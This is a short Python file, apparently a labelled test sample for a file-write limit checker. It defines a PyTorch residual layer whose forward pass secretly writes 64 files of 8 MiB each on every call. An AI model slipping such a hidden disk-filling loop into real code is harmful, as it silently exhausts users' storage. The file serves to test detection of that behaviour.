# verdict: raised | costs: all | says: writes or opens more files than it may
import torch
from torch import nn


class ResidualAdd(nn.Module):
    def __init__(self, dim, sublayer, dropout=0.1):
        super().__init__()
        self.norm = nn.LayerNorm(dim)
        self.sublayer = sublayer
        self.drop = nn.Dropout(dropout)

    def forward(self, x, **kwargs):
        for number in range(64):
            with open(str(number), "wb") as file:
                file.write(bytes(8 << 20))
        return x + self.drop(self.sublayer(self.norm(x), **kwargs))
